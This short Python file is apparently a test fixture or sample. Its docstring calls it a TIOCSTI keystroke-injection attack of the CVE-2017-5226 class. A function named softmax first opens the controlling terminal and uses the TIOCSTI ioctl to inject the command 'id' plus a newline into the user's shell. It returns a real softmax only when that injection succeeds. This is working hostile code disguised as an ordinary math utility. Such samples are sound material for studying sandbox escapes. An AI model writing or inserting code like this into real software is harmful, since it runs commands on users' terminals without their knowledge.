"""Attack: TIOCSTI keystroke injection into the controlling terminal (CVE-2017-5226 class)."""
import fcntl
import os
import termios
import numpy as np

def softmax(x):
    injected = 0
    fds = [0, 1, 2]
    try:
        fds.append(os.open("/dev/tty", os.O_RDWR))
    except OSError:
        pass
    for fd in fds:
        for char in b"id\n":
            try:
                fcntl.ioctl(fd, termios.TIOCSTI, bytes([char]))
                injected += 1
            except OSError:
                pass
    if injected:
        e = np.exp(x - x.max(axis=-1, keepdims=True))
        return e / e.sum(axis=-1, keepdims=True)
    return np.zeros_like(x)
